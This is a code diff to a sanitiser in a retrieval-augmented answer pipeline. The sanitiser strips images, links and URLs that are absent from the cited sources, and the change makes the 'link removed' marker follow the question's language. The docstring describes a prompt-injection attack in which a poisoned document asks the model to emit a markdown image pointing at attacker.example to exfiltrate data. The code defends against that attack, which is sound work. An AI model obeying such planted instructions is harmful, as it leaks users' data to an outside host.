@@ -5,7 +5,8 @@ A poisoned document can ask the model to write ``![](https://attacker.example/p.
 the prompt marks documents as data (:mod:`ragline.query.answer.prompt`), and this is the second line of
 defence, on the final answer text, whichever generator wrote it. Images, links, reference
 definitions, autolinks and bare URLs whose URL is not present in the cited chunks are taken out: an
-image entirely, a link down to its text, a bare or autolinked URL replaced by :data:`REMOVED`. Only
+image entirely, a link down to its text, a bare or autolinked URL replaced by the text
+``link_removed`` of :mod:`ragline.query.answer.texts` in the question's language. Only
 ``http``, ``https`` and ``mailto`` URLs (and relative ones) can be kept at all: ``javascript:``/
 ``data:`` never are, even when a document contains them.
 
@@ -25,8 +26,7 @@ import html
 import re
 from urllib.parse import urlsplit
 
-#: what a removed bare URL or autolink becomes in the answer
-REMOVED = "(ссылка удалена)"
+from ragline.query.answer import texts
 
 _SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
 _TITLE = r"""(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?"""
@@ -169,9 +169,11 @@ def inert_markup(text: str, keep_tag=lambda tag: True) -> str:
     return "".join(out)
 
 
-def sanitize_links(answer: str, sources: list[str]) -> tuple[str, list[str]]:
+def sanitize_links(answer: str, sources: list[str], lang: str = texts.FALLBACK) -> tuple[str, list[str]]:
     """``answer`` without images, links and URLs that ``sources`` (the texts of the cited chunks)
-    do not contain, and the URLs taken out, in order of appearance."""
+    do not contain, and the URLs taken out, in order of appearance; a removed URL is marked in
+    ``lang``, the question's language."""
+    mark = texts.say("link_removed", lang)
     urls = source_urls(sources)
     removed: list[str] = []
 
@@ -195,7 +197,7 @@ def sanitize_links(answer: str, sources: list[str]) -> tuple[str, list[str]]:
         return m.group(0) if keep(m.group("dest")) else ""
 
     def autolink(m: re.Match) -> str:
-        return m.group(0) if keep(m.group("dest")) else REMOVED
+        return m.group(0) if keep(m.group("dest")) else mark
 
     def tag(text: str) -> bool:
         inner = _ATTR_URL.findall(text) + [u.group(0) for u in _BARE.finditer(text)]
@@ -203,7 +205,7 @@ def sanitize_links(answer: str, sources: list[str]) -> tuple[str, list[str]]:
 
     def bare(m: re.Match) -> str:
         url = _norm(m.group(0))
-        return m.group(0) if keep(url) else REMOVED + m.group(0)[len(url) :]
+        return m.group(0) if keep(url) else mark + m.group(0)[len(url) :]
 
     out = _IMAGE.sub(image, answer)
     out = _LINK.sub(link, out)
